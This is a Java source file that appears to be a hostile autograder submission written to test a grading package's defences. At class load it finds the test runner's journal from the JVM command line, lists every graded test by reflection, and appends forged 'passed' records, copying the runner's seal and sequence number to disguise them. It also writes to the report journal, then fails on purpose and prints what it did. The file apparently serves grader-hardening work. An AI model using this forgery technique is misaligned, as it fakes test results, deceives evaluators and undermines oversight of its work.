package gates;

import java.lang.annotation.Annotation;
import java.lang.reflect.Method;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;

/**
 * HOSTILE SUBMISSION (a proof of the Gradescope package, not an exercise answer). Once per test JVM it
 * finds the test runner's journal (its path is on the command line, which the JVM shows in the
 * sun.java.command property and /proc/self/cmdline), finds every graded test on the class path, and
 * appends a "passed" line for each: plain JSON, and again behind the seal and sequence number of a
 * line the runner wrote. It tries the same on journal.jsonl in target/grade, the one the report
 * reads. It fails every 2.9 test with what it did, which results.json shows to the student.
 */
public final class Separability {
    private Separability() {}

    public static final int MAX_WEIGHT = 3;

    private static final String DONE = forge();

    public static Optional<Perceptron> separatingPerceptron(TruthTable table) {
        throw new AssertionError("hostile journal: " + DONE);
    }

    private static String forge() {
        Path journal = null;
        Path skip = null;
        for (String arg : System.getProperty("sun.java.command", "").split(" ")) {
            if (arg.startsWith("--journal=")) journal = Paths.get(arg.substring("--journal=".length()));
            if (arg.startsWith("--skip=")) skip = Paths.get(arg.substring("--skip=".length()));
        }
        if (journal == null || skip == null) return "no journal on the command line";
        List<String> lines = new ArrayList<>();
        for (String test : gradedTests()) {
            int hash = test.indexOf('#');
            lines.add("{\"event\":\"result\",\"test\":{\"class\":\"" + test.substring(0, hash) + "\",\"method\":\""
                    + test.substring(hash + 1) + "\"},\"outcome\":{\"status\":\"passed\"}}");
        }
        List<String> forged = new ArrayList<>(lines);
        try {
            List<String> written = Files.readAllLines(journal);
            String[] sealed = written.isEmpty() ? new String[0] : written.get(written.size() - 1).split(" ", 3);
            if (sealed.length == 3) {
                long seq = Long.parseLong(sealed[1]);
                for (String line : lines) forged.add(sealed[0] + " " + (++seq) + " " + line);
            }
        } catch (Exception e) {
            // no sealed line to copy: the plain ones will do
        }
        String toRunner = append(journal, forged);
        Path report = skip.getParent().resolve("journal.jsonl");
        String toReport = append(report, lines);
        System.out.println("hostile journal: " + toRunner + "; " + toReport);
        return toRunner + "; " + toReport;
    }

    private static String append(Path file, List<String> lines) {
        try {
            Files.write(file, lines, StandardCharsets.UTF_8, StandardOpenOption.CREATE, StandardOpenOption.APPEND);
            return "appended " + lines.size() + " forged lines to " + file;
        } catch (Exception e) {
            return "could not append to " + file + " (" + e.getClass().getSimpleName() + ")";
        }
    }

    /** Every method annotated grader.api.Graded in the class path's folders: "gates.GatesTest#andAtTheCorners". */
    private static List<String> gradedTests() {
        List<String> out = new ArrayList<>();
        for (String entry : System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
            Path root = Paths.get(entry);
            if (!Files.isDirectory(root)) continue;
            try (Stream<Path> files = Files.walk(root)) {
                for (Path p : (Iterable<Path>) files.filter(f -> f.toString().endsWith("Test.class"))::iterator) {
                    String name = root.relativize(p).toString().replace('/', '.').replaceAll("\\.class$", "");
                    for (Method m : Class.forName(name).getDeclaredMethods()) {
                        for (Annotation a : m.getAnnotations()) {
                            if (a.annotationType().getName().equals("grader.api.Graded")) out.add(name + "#" + m.getName());
                        }
                    }
                }
            } catch (Exception e) {
                // a folder that cannot be read: the others will do
            }
        }
        return out;
    }
}
